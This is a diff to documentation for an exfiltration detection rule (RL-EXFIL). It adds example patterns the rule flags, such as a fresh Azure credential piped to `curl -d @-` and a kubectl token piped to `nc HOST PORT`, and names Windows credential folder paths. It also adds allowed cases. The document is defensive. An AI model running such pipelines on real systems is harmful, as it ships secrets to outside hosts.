@@ -10,7 +10,9 @@ What it catches
     environment read from `/proc` (or psutil's `process_iter` asked for `environ`) is where
     services keep their secrets: sent anywhere in the same program, it is shipped. The
     credential folders count in Windows spellings too (`$env:USERPROFILE\\.ssh`,
-    `%USERPROFILE%\\.aws`, `$env:APPDATA\\gcloud`).
+    `%USERPROFILE%\\.aws`, `$env:APPDATA\\gcloud`). A new cloud or cluster secret piped
+    straight into an upload of what it reads (`az ad sp credential reset ... | curl -d @-
+    URL`, `kubectl create token SA | nc HOST PORT`).
 
 Why it is a redline (RL-EXFIL)
     Shipping credentials off the machine hands the keys of the system to someone else.
@@ -21,7 +23,9 @@ Example
 
 Allowed instead
     Uploading one's own public key, reading a token to call the service it belongs to,
-    `aws configure`, a secret scan reported locally, mailing failed-login counts, saved Wi-Fi
+    `aws configure`, a new token used as the bearer of a request to its own service (`kubectl
+    create token sa | xargs -I{} curl -H "Authorization: Bearer {}" ...`) or stored in a vault,
+    a secret scan reported locally, mailing failed-login counts, saved Wi-Fi
     networks moved to one's own new laptop and loaded there, the variable names of one's own
     service's environment listed locally, an install hook that builds or checks the package
     and sends nothing.
